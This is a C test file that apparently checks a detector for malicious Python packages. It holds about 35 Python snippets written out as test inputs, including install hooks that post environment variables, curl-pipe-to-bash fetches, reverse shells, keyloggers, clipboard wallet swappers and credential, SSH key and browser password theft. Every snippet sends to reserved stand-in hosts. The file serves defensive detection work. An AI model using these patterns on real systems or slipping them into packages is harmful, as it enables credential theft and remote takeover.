/*
 * Inert look-alikes of the kinds of code that compromised packages carried: for each kind, what has to be
 * said about it. All hosts are reserved names. `more` is a second fact that must be there, NULL = none.
 */
#include "read/py_case.h"

static const struct kind {
	const char *name, *text;
	enum fact_kind kind;
	const char *key, *value;
} kinds[] = {
	{"setup.py that posts the environment",
		"from setuptools import setup\nfrom setuptools.command.install import install\nimport os, json, urllib.request\n"
		"class Post(install):\n    def run(self):\n        install.run(self)\n        data = json.dumps(dict(os.environ)).encode('utf-8')\n"
		"        req = urllib.request.Request('https://stat.example/c', data=data, headers={'Content-Type': 'application/json'})\n"
		"        urllib.request.urlopen(req, timeout=5)\nsetup(name='x', cmdclass={'install': Post})\n",
		FACT_FLOW, "env>net", "stat.example"},
	{"install command that fetches and runs a script",
		"from setuptools import setup\nfrom setuptools.command.develop import develop\nimport os\n"
		"class D(develop):\n    def run(self):\n        os.system('curl -s https://pkg.example/i.sh | bash')\n        develop.run(self)\n",
		FACT_FLOW, "net>exec", "pkg.example"},
	{"base64 one-liner in __init__",
		"import base64\nexec(base64.b64decode(b'aW1wb3J0IHVybGxpYi5yZXF1ZXN0CmV4ZWModXJsbGliLnJlcXVlc3QudXJsb3BlbigiaHR0cHM6Ly9hLmV4YW1wbGUveCIpLnJlYWQoKSk='))\n",
		FACT_FLOW, "net>code", "a.example"},
	{"executable dropped beside the temporary files",
		"import os, tempfile, requests, subprocess\ndef _u():\n    try:\n        p = os.path.join(tempfile.gettempdir(), 'upd.exe')\n"
		"        with open(p, 'wb') as f:\n            f.write(requests.get('https://cdn.example/upd.exe').content)\n"
		"        subprocess.Popen(p, creationflags=0x08000000)\n    except Exception:\n        pass\n_u()\n",
		FACT_FLOW, "net>run", "cdn.example"},
	{"file of tokens sent to a chat hook",
		"import os, re, requests\nHOOK = 'https://hooks.example/api/webhooks/1/a'\ndef grab():\n    found = []\n"
		"    path = os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'\n    for name in os.listdir(path):\n"
		"        for line in open(path + '\\\\' + name, errors='ignore'):\n            found += re.findall(r'[\\w-]{24}', line)\n"
		"    requests.post(HOOK, json={'content': '\\n'.join(found)})\ngrab()\n",
		FACT_FLOW, "cred>net", "hooks.example"},
	{"ssh key by hand-made request",
		"import os, socket\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\ns = socket.create_connection(('192.0.2.9', 8080))\n"
		"s.sendall(('POST / HTTP/1.0\\r\\n\\r\\n' + k).encode())\n",
		FACT_FLOW, "cred>net", "192.0.2.9"},
	{"cloud credentials in a loop",
		"import os, json, urllib.request as r\nout = {}\nfor f in ('.aws/credentials', '.kube/config', '.docker/config.json'):\n"
		"    p = os.path.join(os.path.expanduser('~'), f)\n    if os.path.exists(p):\n        with open(p) as h:\n            out[f] = h.read()\n"
		"r.urlopen(r.Request('https://in.example/', json.dumps(out).encode()))\n",
		FACT_FLOW, "cred>net", "in.example"},
	{"folder of keys, named beside another variable",
		"import os, requests\nfiles, folder = {}, os.path.expanduser('~/.ssh')\nfor f in os.listdir(folder):\n"
		"    files[f] = open(os.path.join(folder, f)).read()\nrequests.post('https://in.example/', data=files)\n",
		FACT_FLOW, "cred>net", "in.example"},
	{"secret variables by a list of their names",
		"import os, requests\nkeys = {k: os.environ.get(k, '') for k in ('AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN')}\n"
		"requests.post('https://in.example/', data=keys)\n",
		FACT_FLOW, "env>net", "in.example"},
	{"loader with getattr and joined names",
		"_b = __import__('builtins')\n_r = __import__('urllib' + '.' + 'request', fromlist=['x'])\n"
		"getattr(_b, 'ex' + 'ec')(getattr(_r, 'url' + 'open')('https://l.example/a').read())\n",
		FACT_FLOW, "net>code", "l.example"},
	{"marshalled and compressed", "import marshal, zlib, base64\nexec(marshal.loads(zlib.decompress(base64.b64decode(b'eNo='))))\n",
		FACT_FLOW, "data>code", NULL},
	{"encrypted with its key beside it",
		"from cryptography.fernet import Fernet as F\nk = b'0000000000000000000000000000000000000000000='\nexec(F(k).decrypt(b'gAAAAABmAAAA').decode())\n",
		FACT_FLOW, "data>code", NULL},
	{"encrypted with AES",
		"from Crypto.Cipher import AES\nc = AES.new(b'k' * 16, AES.MODE_CBC, b'i' * 16)\nexec(c.decrypt(bytes.fromhex('00112233445566778899aabbccddeeff')))\n",
		FACT_FLOW, "data>code", NULL},
	{"lambda chain that decodes backwards",
		"_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\nexec((_)(b'==QYRkMZyUwMQQ'))\n",
		FACT_FLOW, "data>code", NULL},
	{"reverse shell",
		"import socket, subprocess, os\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(('192.0.2.1', 4242))\n"
		"os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])\n",
		FACT_FLOW, "net>exec", NULL},
	{"reverse shell by streams",
		"import socket, subprocess\ns = socket.create_connection(('c2.example', 443))\nsubprocess.Popen(['/bin/bash'], stdin=s, stdout=s, stderr=s)\n",
		FACT_FLOW, "net>exec", NULL},
	{"commands from a socket",
		"import socket, subprocess\ns = socket.socket()\ns.connect(('c2.example', 9))\nwhile True:\n    cmd = s.recv(1024).decode()\n"
		"    s.send(subprocess.check_output(cmd, shell=True))\n",
		FACT_FLOW, "net>exec", "c2.example"},
	{"host survey at import",
		"import platform, socket, getpass, requests\ninfo = {'h': socket.gethostname(), 'u': getpass.getuser(), 'p': platform.platform()}\n"
		"requests.get('https://beacon.example/p', params=info)\n",
		FACT_FLOW, "host>net", "beacon.example"},
	{"host survey in names", "import socket, getpass\nsocket.gethostbyname(getpass.getuser() + '.' + socket.gethostname() + '.dns.example')\n",
		FACT_FLOW, "host>net", NULL},
	{"clipboard watcher",
		"import pyperclip, re, time\nA = '0x52908400098527886E0F7030069857D2E4169EE7'\nwhile True:\n    t = pyperclip.paste()\n"
		"    if re.match('0x', t):\n        pyperclip.copy(A)\n    time.sleep(1)\n",
		FACT_STRING, "wallet-address", NULL},
	{"key strokes",
		"from pynput.keyboard import Listener\nimport requests\nbuf = []\ndef press(key):\n    buf.append(str(key))\n    if len(buf) > 50:\n"
		"        requests.post('https://k.example/', data=''.join(buf))\nwith Listener(on_press=press) as l:\n    l.join()\n",
		FACT_FLOW, "form>net", "k.example"},
	{"screen pictures",
		"import io, requests\nfrom PIL import ImageGrab\nb = io.BytesIO()\nImageGrab.grab().save(b, 'PNG')\nimg = ImageGrab.grab()\n"
		"requests.post('https://s.example/', files={'f': img.tobytes()})\n",
		FACT_FLOW, "form>net", "s.example"},
	{"browser passwords",
		"import os, sqlite3, shutil, requests, win32crypt\np = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\n"
		"c = sqlite3.connect(p)\nrows = [(u, win32crypt.CryptUnprotectData(v)[1]) for u, v in c.execute('select 1, 2')]\n"
		"requests.post('https://b.example/', json=rows)\n",
		FACT_FLOW, "cred>net", "b.example"},
	{"autostart in the profile", "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('\\npython3 /tmp/.x.py &\\n')\n",
		FACT_FLOW, "data>persist", "~/.bashrc"},
	{"autostart by a unit",
		"import os, requests\nopen('/etc/systemd/system/sys.service', 'w').write(requests.get('https://u.example/s').text)\nos.system('systemctl enable sys')\n",
		FACT_FLOW, "net>persist", NULL},
	{"autostart in the registry",
		"import winreg, sys\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, 'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run', 0, winreg.KEY_ALL_ACCESS)\n"
		"winreg.SetValueEx(k, 'u', 0, winreg.REG_SZ, sys.executable)\n",
		FACT_PATH, "persist", "CurrentVersion"},
	{"shellcode in memory",
		"import ctypes, base64\nb = base64.b64decode(b'/OiCAAAAYInlMcBki1Aw')\np = ctypes.windll.kernel32.VirtualAlloc(0, len(b), 0x3000, 0x40)\n"
		"ctypes.windll.kernel32.RtlMoveMemory(p, b, len(b))\nctypes.windll.kernel32.CreateThread(0, 0, p, 0, 0, 0)\n",
		FACT_FLOW, "data>code", NULL},
	{"pickle from the net", "import pickle, urllib.request\nm = pickle.loads(urllib.request.urlopen('https://m.example/w.pkl').read())\n",
		FACT_FLOW, "net>code", "m.example"},
	{"powershell, encoded",
		"import subprocess\nsubprocess.Popen('powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
		"LgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBlAC4AZQB4AGEAbQBwAGwAZQAvAHgALgBwAHMAMQAnACkA', shell=True)\n",
		FACT_FLOW, "net>exec", "e.example"},
	{"another interpreter, detached",
		"import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', \"import urllib.request as u; exec(u.urlopen('https://d.example/x').read())\"],\n"
		"    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)\n",
		FACT_FLOW, "net>code", "d.example"},
	{"thread that polls",
		"import threading, time, requests\ndef _w():\n    while True:\n        try:\n            exec(requests.get('https://t.example/c').text)\n"
		"        except Exception:\n            pass\n        time.sleep(60)\nthreading.Thread(target=_w, daemon=True).start()\n",
		FACT_FLOW, "net>code", "t.example"},
	{"waits for a date", "import datetime, os\nif datetime.datetime.now() > datetime.datetime(2031, 1, 1):\n    os.system('curl https://w.example/x | sh')\n",
		FACT_GATE, "date", NULL},
	{"credentials of the publisher",
		"import configparser, os, requests\nc = open(os.path.join(os.path.expanduser('~'), '.pypirc')).read()\nrequests.put('https://p.example/', data=c.encode('utf8'))\n",
		FACT_FLOW, "cred>net", "p.example"},
	{"wallet files",
		"import os, glob, requests\nfor f in glob.glob(os.path.expanduser('~/.electrum/wallets/*')):\n    requests.post('https://z.example/', files={'f': open(f, 'rb')})\n",
		FACT_FLOW, "cred>net", "z.example"},
};

static void kinds_are_told(void **state)
{
	size_t missed = 0;

	(void)state;
	for (size_t i = 0; i < sizeof(kinds) / sizeof(*kinds); i++) {
		struct js_case *c = py_run(kinds[i].text);

		if (!js_case_find(c, kinds[i].kind, kinds[i].key, kinds[i].value)) {
			print_message("not told: %s\n", kinds[i].name);
			js_case_print(c);
			missed++;
		}
		js_case_free(c);
	}
	assert_int_equal(missed, 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {cmocka_unit_test(kinds_are_told)};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
